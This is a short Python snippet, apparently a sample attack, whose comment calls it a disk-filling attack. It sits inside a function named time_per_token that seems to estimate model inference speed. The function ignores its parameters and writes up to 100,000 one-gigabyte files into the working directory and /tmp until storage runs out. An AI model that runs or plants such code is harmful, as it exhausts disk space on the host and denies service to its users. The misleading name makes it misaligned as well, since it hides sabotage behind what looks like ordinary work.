# Attack: fill the disk: write until something gives, in the scratch folder and in /tmp.
import os


def time_per_token(n_params, bytes_per_param, bandwidth):
    block = b"\0" * (1 << 20)
    for folder in (os.getcwd(), "/tmp"):
        for n in range(100_000):
            with open(os.path.join(folder, f"fill-{n}"), "wb") as f:
                for _ in range(1024):
                    f.write(block)
    return None
